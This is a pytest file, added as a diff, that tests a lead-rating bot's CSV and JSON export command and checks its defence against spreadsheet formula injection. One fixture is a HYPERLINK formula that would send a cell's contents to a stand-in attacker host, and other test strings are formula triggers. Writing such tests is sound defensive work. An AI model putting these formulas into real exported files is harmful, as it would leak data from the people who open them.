@@ -1,0 +1,445 @@
+"""``leadloop export`` end to end on a real database, and the CSV/JSON writers (bot/export.py)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from dataclasses import dataclass
+from datetime import UTC, datetime, timedelta, timezone
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from bot.cli import main
+from bot.export import csv_cell, neutralise_formula, write_csv, write_json
+from storage.engine import SessionFactory
+from storage.export import LEAD_COLUMNS, RATING_COLUMNS, RESPONSE_COLUMNS
+from storage.ratings import add_rating, get_or_create_lead, record_post
+from storage.responses import add_response
+
+TEAM = "T0AAA"
+OTHER_TEAM = "T0BBB"
+NOW = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
+COLUMNS = {"ratings": RATING_COLUMNS, "responses": RESPONSE_COLUMNS, "leads": LEAD_COLUMNS}
+
+
+@dataclass(frozen=True)
+class Export:
+    """What one ``leadloop export`` run returned and printed."""
+
+    exit_code: int
+    out: str
+    err: str
+
+    def csv_rows(self) -> list[dict[str, str]]:
+        """The CSV output as rows keyed by header."""
+        return list(csv.DictReader(io.StringIO(self.out)))
+
+    def csv_header(self) -> list[str]:
+        """The CSV output's first line."""
+        return next(csv.reader(io.StringIO(self.out)))
+
+    def json_rows(self) -> list[dict[str, Any]]:
+        """The JSON output."""
+        rows = json.loads(self.out)
+        assert isinstance(rows, list)
+        return rows
+
+
+@pytest.fixture
+def cli_database(database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> str:
+    """The test database as the CLI's DATABASE_URL, with no developer's .env read."""
+    monkeypatch.setenv("LEADLOOP_ENV_FILE", str(tmp_path / "no-such.env"))
+    monkeypatch.setenv("DATABASE_URL", database_url)
+    return database_url
+
+
+def export(capsys: pytest.CaptureFixture[str], *args: str) -> Export:
+    """Run ``leadloop export ARGS`` in this process."""
+    capsys.readouterr()
+    exit_code = main(["export", *args])
+    captured = capsys.readouterr()
+    return Export(exit_code=exit_code, out=captured.out, err=captured.err)
+
+
+def rate(
+    session_factory: SessionFactory,
+    *,
+    team_id: str = TEAM,
+    lead_ref: str = "ACME-1042",
+    score: int = 2,
+    reason: str = "wrong industry, no budget",
+    tags: list[str] | None = None,
+    rater_id: str = "URATER",
+    created_at: datetime = NOW,
+    replies: list[str] | None = None,
+) -> int:
+    """Store a rating (creating its lead) and its thread replies, committed; the rating's id."""
+    with session_factory() as session:
+        lead = get_or_create_lead(session, team_id=team_id, external_ref=lead_ref, now=created_at)
+        rating = add_rating(
+            session,
+            team_id=team_id,
+            lead=lead,
+            rater_id=rater_id,
+            score=score,
+            reason=reason,
+            tags=["no_budget", "wrong_fit"] if tags is None else tags,
+            via="command",
+            origin_channel="C0ORIGIN",
+            now=created_at,
+        )
+        assert rating.id is not None
+        for number, text in enumerate(replies or [], start=1):
+            add_response(
+                session,
+                team_id=team_id,
+                rating_id=rating.id,
+                user_id="UMARKETER",
+                channel="C0FEEDBACK",
+                ts=f"1700000000.{rating.id:03d}{number:03d}",
+                text=text,
+                is_answer=True,
+                created_at=created_at + timedelta(minutes=number),
+            )
+        session.commit()
+        return rating.id
+
+
+# --- the command ----------------------------------------------------------------------
+
+
+def test_ratings_csv_has_the_export_columns_and_one_row_per_rating(
+    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
+) -> None:
+    first = rate(session_factory)
+    with session_factory() as session:
+        record_post(
+            session, team_id=TEAM, rating_id=first, channel="C0FEEDBACK", ts="1700.1", now=NOW
+        )
+        session.commit()
+    rate(session_factory, lead_ref="GLOBEX-7", score=5, reason="", tags=[])
+
+    result = export(capsys, "ratings")
+
+    assert result.exit_code == 0, result.err
+    assert result.csv_header() == list(RATING_COLUMNS)
+    first_row, second_row = result.csv_rows()
+    assert first_row == {
+        "id": str(first),
+        "team_id": TEAM,
+        "lead_ref": "ACME-1042",
+        "score": "2",
+        "reason": "wrong industry, no budget",
+        "tags": "no_budget;wrong_fit",
+        "rater_id": "URATER",
+        "via": "command",
+        "created_at": "2026-11-02T09:30:00+00:00",
+        "post_channel": "C0FEEDBACK",
+        "post_ts": "1700.1",
+    }
+    assert (second_row["lead_ref"], second_row["score"], second_row["tags"]) == (
+        "GLOBEX-7",
+        "5",
+        "",
+    )
+    assert second_row["post_channel"] == second_row["post_ts"] == ""
+
+
+def test_responses_csv_links_each_reply_to_its_rating_and_lead(
+    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rating_id = rate(session_factory, replies=["Thanks, we'll fix the form", "Done"])
+
+    result = export(capsys, "responses")
+
+    assert result.exit_code == 0, result.err
+    assert result.csv_header() == list(RESPONSE_COLUMNS)
+    first, second = result.csv_rows()
+    assert first["rating_id"] == second["rating_id"] == str(rating_id)
+    assert first["lead_ref"] == "ACME-1042"
+    assert first["team_id"] == TEAM
+    assert first["user_id"] == "UMARKETER"
+    assert first["text"] == "Thanks, we'll fix the form"
+    assert (first["is_answer"], first["deleted"], first["edited_at"]) == ("true", "false", "")
+    assert first["created_at"] == "2026-11-02T09:31:00+00:00"
+    assert second["text"] == "Done"
+
+
+def test_leads_csv_lists_each_lead_once(
+    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rate(session_factory, lead_ref="ACME-1042", rater_id="UONE")
+    rate(session_factory, lead_ref="ACME-1042", rater_id="UTWO")
+    rate(session_factory, lead_ref="GLOBEX-7")
+
+    result = export(capsys, "leads")
+
+    assert result.exit_code == 0, result.err
+    assert result.csv_header() == list(LEAD_COLUMNS)
+    rows = result.csv_rows()
+    assert [row["external_ref"] for row in rows] == ["ACME-1042", "GLOBEX-7"]
+    assert rows[0]["team_id"] == TEAM
+    assert rows[0]["created_at"] == "2026-11-02T09:30:00+00:00"
+    assert rows[0]["name"] == rows[0]["email"] == ""
+
+
+@pytest.mark.parametrize("what", sorted(COLUMNS))
+def test_json_is_a_list_of_objects_with_the_export_columns(
+    what: str,
+    cli_database: str,
+    session_factory: SessionFactory,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    rate(session_factory, replies=["On it"])
+    rate(session_factory, lead_ref="GLOBEX-7", replies=["Noted"])
+
+    result = export(capsys, what, "--format", "json")
+
+    assert result.exit_code == 0, result.err
+    rows = result.json_rows()
+    assert len(rows) == 2
+    for row in rows:
+        assert list(row) == list(COLUMNS[what])
+        assert row["team_id"] == TEAM
+        created_at = datetime.fromisoformat(row["created_at"])
+        assert row["created_at"].endswith("+00:00")
+        assert created_at.utcoffset() == timedelta(0)
+
+
+def test_json_keeps_native_types(
+    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rate(session_factory, replies=["On it"])
+
+    [rating] = export(capsys, "ratings", "--format", "json").json_rows()
+    [response] = export(capsys, "responses", "--format", "json").json_rows()
+
+    assert rating["score"] == 2
+    assert rating["tags"] == ["no_budget", "wrong_fit"]
+    assert rating["post_channel"] is None
+    assert response["is_answer"] is True
+    assert response["deleted"] is False
+
+
+def test_formula_cells_are_neutralised_in_csv_but_unchanged_in_json(
+    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
+) -> None:
+    reason = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    rate(
+        session_factory,
+        lead_ref="@SUM(1)",
+        reason=reason,
+        tags=["-2+3"],
+        replies=["+1 call them", "-done", "plain answer"],
+    )
+
+    [rating_row] = export(capsys, "ratings").csv_rows()
+    response_rows = export(capsys, "responses").csv_rows()
+    [lead_row] = export(capsys, "leads").csv_rows()
+    [rating_json] = export(capsys, "ratings", "--format", "json").json_rows()
+    responses_json = export(capsys, "responses", "--format", "json").json_rows()
+
+    assert rating_row["reason"] == "'" + reason
+    assert rating_row["lead_ref"] == "'@SUM(1)"
+    assert rating_row["tags"] == "'-2+3"
+    assert [row["text"] for row in response_rows] == ["'+1 call them", "'-done", "plain answer"]
+    assert response_rows[0]["lead_ref"] == "'@SUM(1)"
+    assert lead_row["external_ref"] == "'@SUM(1)"
+    assert rating_json["reason"] == reason
+    assert rating_json["lead_ref"] == "@SUM(1)"
+    assert rating_json["tags"] == ["-2+3"]
+    assert [row["text"] for row in responses_json] == ["+1 call them", "-done", "plain answer"]
+
+
+@pytest.mark.parametrize(
+    ("what", "key", "expected"),
+    [
+        ("ratings", "lead_ref", ["ON-THE-DAY", "AFTER"]),
+        ("leads", "external_ref", ["ON-THE-DAY", "AFTER"]),
+        ("responses", "text", ["reply ON-THE-DAY", "reply AFTER"]),
+    ],
+)
+def test_since_keeps_rows_created_on_or_after_that_day(
+    what: str,
+    key: str,
+    expected: list[str],
+    cli_database: str,
+    session_factory: SessionFactory,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    for lead_ref, created_at in [
+        ("BEFORE", datetime(2026, 10, 31, 23, 58, tzinfo=UTC)),
+        ("ON-THE-DAY", datetime(2026, 11, 1, 0, 0, tzinfo=UTC)),
+        ("AFTER", datetime(2026, 11, 5, 12, 0, tzinfo=UTC)),
+    ]:
+        # Each reply comes a minute after its rating: still on the same side of midnight.
+        rate(
+            session_factory, lead_ref=lead_ref, created_at=created_at, replies=[f"reply {lead_ref}"]
+        )
+
+    csv_result = export(capsys, what, "--since", "2026-11-01")
+    json_result = export(capsys, what, "--since", "2026-11-01", "--format", "json")
+
+    assert csv_result.exit_code == 0, csv_result.err
+    assert [row[key] for row in csv_result.csv_rows()] == expected
+    assert [row[key] for row in json_result.json_rows()] == expected
+
+
+@pytest.mark.parametrize("since", ["yesterday", "2026-13-01", "01/11/2026", "2026-11-01T25:00"])
+def test_bad_since_exits_2_with_a_friendly_message(
+    since: str,
+    cli_database: str,
+    session_factory: SessionFactory,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    rate(session_factory)
+
+    result = export(capsys, "ratings", "--since", since)
+
+    assert result.exit_code == 2
+    assert result.out == ""
+    [line] = result.err.splitlines()
+    assert "--since" in line
+    assert since in line
+    assert "YYYY-MM-DD" in line
+    assert "Traceback" not in result.err
+
+
+def test_two_workspaces_without_workspace_option_exit_2_listing_both(
+    cli_database: str, session_factory: SessionFactory, capsys: pytest.CaptureFixture[str]
+) -> None:
+    rate(session_factory, team_id=TEAM)
+    rate(session_factory, team_id=OTHER_TEAM)
+
+    result = export(capsys, "ratings")
+
+    assert result.exit_code == 2
+    assert result.out == ""
+    assert "--workspace" in result.err
+    assert TEAM in result.err
+    assert OTHER_TEAM in result.err
+
+
+@pytest.mark.parametrize("what", sorted(COLUMNS))
+@pytest.mark.parametrize("output_format", ["csv", "json"])
+def test_workspace_option_exports_only_that_workspaces_rows(
+    what: str,
+    output_format: str,
+    cli_database: str,
+    session_factory: SessionFactory,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    # The same lead reference in both workspaces: the rows must still not mix.
+    rate(session_factory, team_id=TEAM, lead_ref="ACME-1042", reason="ours", replies=["our reply"])
+    rate(
+        session_factory,
+        team_id=OTHER_TEAM,
+        lead_ref="ACME-1042",
+        reason="theirs",
+        replies=["their reply"],
+    )
+    rate(session_factory, team_id=OTHER_TEAM, lead_ref="INITECH-9", replies=["their reply 2"])
+
+    result = export(capsys, what, "--workspace", TEAM, "--format", output_format)
+
+    assert result.exit_code == 0, result.err
+    rows = result.csv_rows() if output_format == "csv" else result.json_rows()
+    assert len(rows) == 1
+    assert rows[0]["team_id"] == TEAM
+    assert OTHER_TEAM not in result.out
+    assert "theirs" not in result.out
+    assert "their reply" not in result.out
+    assert "INITECH-9" not in result.out
+
+
+def test_empty_database_exits_1_saying_there_is_nothing_to_export(
+    cli_database: str, capsys: pytest.CaptureFixture[str]
+) -> None:
+    result = export(capsys, "ratings")
+
+    assert result.exit_code == 1
+    assert result.out == ""
+    [line] = result.err.splitlines()
+    assert "no data" in line
+    assert "Traceback" not in result.err
+
+
+# --- the writers ----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")']
+)
+def test_neutralise_formula_prefixes_an_apostrophe_to_formula_triggers(text: str) -> None:
+    assert neutralise_formula(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["", "ACME-1042", "1+1", "a=b", "'already", " =1", "€5"])
+def test_neutralise_formula_leaves_other_text_alone(text: str) -> None:
+    assert neutralise_formula(text) == text
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (None, ""),
+        (True, "true"),
+        (False, "false"),
+        (0, "0"),
+        (42, "42"),
+        ("plain", "plain"),
+        ("=1+1", "'=1+1"),
+        (["no_budget", "wrong_fit"], "no_budget;wrong_fit"),
+        (("-x", "y"), "'-x;y"),
+        ([], ""),
+        (datetime(2026, 11, 2, 9, 30, tzinfo=UTC), "2026-11-02T09:30:00+00:00"),
+        (
+            datetime(2026, 11, 2, 10, 30, tzinfo=timezone(timedelta(hours=1))),
+            "2026-11-02T09:30:00+00:00",
+        ),
+    ],
+)
+def test_csv_cell_renders_each_kind_of_value(value: object, cell: str) -> None:
+    assert csv_cell(value) == cell
+
+
+def test_write_json_of_no_rows_is_an_empty_json_list() -> None:
+    out = io.StringIO()
+
+    assert write_json([], out) == 0
+    assert json.loads(out.getvalue()) == []
+
+
+def test_write_json_writes_times_in_utc_and_keeps_formulas() -> None:
+    out = io.StringIO()
+    berlin_time = datetime(2026, 11, 2, 10, 30, tzinfo=timezone(timedelta(hours=1)))
+    rows = ({"id": n, "reason": "=1+1", "created_at": berlin_time} for n in (1, 2))
+
+    assert write_json(rows, out) == 2
+    assert json.loads(out.getvalue()) == [
+        {"id": 1, "reason": "=1+1", "created_at": "2026-11-02T09:30:00+00:00"},
+        {"id": 2, "reason": "=1+1", "created_at": "2026-11-02T09:30:00+00:00"},
+    ]
+
+
+def test_write_csv_quotes_commas_newlines_and_quotes_so_they_round_trip() -> None:
+    out = io.StringIO()
+    tricky = 'a, "quoted"\nsecond line'
+
+    assert write_csv([{"id": 1, "text": tricky}], ("id", "text"), out) == 1
+    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["id", "text"], ["1", tricky]]
+
+
+def test_export_from_a_database_file_that_does_not_exist_creates_nothing(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    missing = tmp_path / "nowhere" / "leadloop.db"
+    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{missing}")
+
+    assert main(["export", "ratings"]) == 1
+
+    assert "there is no database at" in capsys.readouterr().err
+    assert not missing.parent.exists()
